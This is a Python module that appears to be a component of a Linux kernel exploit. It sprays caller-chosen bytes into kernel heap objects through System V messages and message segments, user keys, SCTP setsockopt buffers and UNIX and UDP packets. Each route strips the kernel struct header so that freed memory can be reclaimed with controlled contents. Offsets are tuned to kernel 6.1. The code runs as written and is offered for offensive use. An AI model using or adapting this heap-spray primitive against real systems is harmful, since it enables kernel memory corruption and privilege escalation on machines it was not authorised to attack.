# SPDX-License-Identifier: Apache-2.0
"""Ways in which a user's bytes come to lie in objects of the kernel: messages, keys, packets, arguments of calls.

`send_everywhere(image)` sends bytes so that, as far as the way allows, the kernel's object looks like `image`: what
precedes the user's part in the kernel's struct is left off.
"""

from __future__ import annotations

import ctypes
import os
import socket
from contextlib import suppress

_libc = ctypes.CDLL(None, use_errno=True)

MESSAGE_HEADER = 48  # struct msg_msg, include/linux/msg.h (6.1)
MESSAGE_FIRST_PART = 4096 - MESSAGE_HEADER  # DATALEN_MSG, ipc/msgutil.c (6.1)
SEGMENT_HEADER = 8  # struct msg_msgseg, ipc/msgutil.c (6.1)
KEY_HEADER = 24  # struct user_key_payload, include/keys/user-type.h (6.1)
SHARED_INFO = 320  # struct skb_shared_info at the end of a packet's buffer, include/linux/skbuff.h (6.1)
SMALLEST_HEAD = 512
LONGEST = 8000

_ADD_KEY, _KEYCTL = 248, 250  # x86-64 system calls
_PROCESS_KEYRING, _KEYCTL_REVOKE, _KEYCTL_UNLINK = -2, 3, 9
_IPC_PRIVATE, _IPC_RMID, _IPC_NOWAIT = 0, 0, 0o4000
_SOL_SCTP, _NO_OPTION = 132, 250


def send_everywhere(image: bytes) -> None:
    """Once through every way; ways that this kernel refuses are passed over."""
    image = image[:LONGEST]
    for way in (option, message, message_segment, key, local_packet, packet):
        with suppress(OSError):
            way(image)


def option(image: bytes) -> None:
    """Argument of setsockopt: copied whole before the option's number is looked at (net/sctp/socket.c, 6.1)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP) as end, suppress(OSError):
        end.setsockopt(_SOL_SCTP, _NO_OPTION, image)


def message(image: bytes) -> None:
    """A System V message, kept for a moment."""
    _through_queue(image[MESSAGE_HEADER:])


def message_segment(image: bytes) -> None:
    """The second part of a long message, which has a shorter header."""
    _through_queue(bytes(MESSAGE_FIRST_PART) + image[SEGMENT_HEADER:])


def _through_queue(data: bytes) -> None:
    queue = _checked(_libc.msgget(_IPC_PRIVATE, 0o600))
    try:
        buffer = ctypes.create_string_buffer((1).to_bytes(8, "little") + data, 8 + len(data) + 1)
        for _ in range(2):
            _checked(_libc.msgsnd(queue, buffer, len(data), _IPC_NOWAIT))
        _checked(_libc.msgrcv(queue, buffer, len(data), 0, _IPC_NOWAIT))
    finally:
        _libc.msgctl(queue, _IPC_RMID, None)


def key(image: bytes) -> None:
    """Payload of a key of type `user`; it is cleared before it is freed."""
    data = image[KEY_HEADER:] or b"-"
    serial = _checked(_libc.syscall(_ADD_KEY, b"user", b"o2c-image", data, len(data), _PROCESS_KEYRING))
    _libc.syscall(_KEYCTL, _KEYCTL_REVOKE, serial)
    _libc.syscall(_KEYCTL, _KEYCTL_UNLINK, serial, _PROCESS_KEYRING)


def local_packet(image: bytes) -> None:
    """A datagram between UNIX sockets: the packet's buffer begins with the user's bytes."""
    room = len(image) - SHARED_INFO if len(image) >= SMALLEST_HEAD else len(image)
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with left, right:
        for _ in range(2):
            left.send(image[:room])
        right.recv(LONGEST)


def packet(image: bytes) -> None:
    """A UDP datagram over loopback, behind room for headers."""
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver,
    ):
        receiver.bind(("127.0.0.1", 0))
        sender.sendto(image, receiver.getsockname())
        receiver.settimeout(1.0)
        receiver.recv(LONGEST)


def _checked(result: int) -> int:
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return int(result)
